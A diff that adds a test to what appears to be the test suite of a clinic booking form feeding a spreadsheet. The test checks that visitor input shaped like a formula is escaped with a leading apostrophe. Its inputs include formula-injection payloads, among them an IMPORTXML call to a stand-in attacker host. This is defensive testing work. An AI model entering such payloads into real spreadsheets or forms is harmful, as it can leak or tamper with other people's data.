@@ -30,6 +30,25 @@ test('a row is posted as text/plain with the five keys of the specification', as
   ]);
 });
 
+test('what a visitor wrote is never run as a formula by the spreadsheet, and the keys stay the five', async () => {
+  const { url, requests } = await sheetEndpoint(accepts);
+  const formulas = ['=IMPORTXML("https://evil.example")', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '＝1+1'];
+  for (const formula of formulas)
+    await send(url, { ...row, patient: formula, service: formula, message: formula });
+  const cells = requests.map(({ body }) => JSON.parse(body) as SheetRow);
+  expect(cells).toEqual(
+    formulas.map((formula) => ({
+      ...row,
+      patient: `'${formula}`,
+      service: `'${formula}`,
+      message: `'${formula}`,
+    })),
+  );
+  expect(cells.map((cell) => Object.keys(cell).join())).toEqual(
+    formulas.map(() => 'patient,mobile,service,dateTime,message'),
+  );
+});
+
 test('a row of another event says so, where the sheet wants to hear of it', async () => {
   const { url, requests } = await sheetEndpoint(accepts);
   await send(url, { ...row, event: 'moved', reference: 'K7PQ2M' });
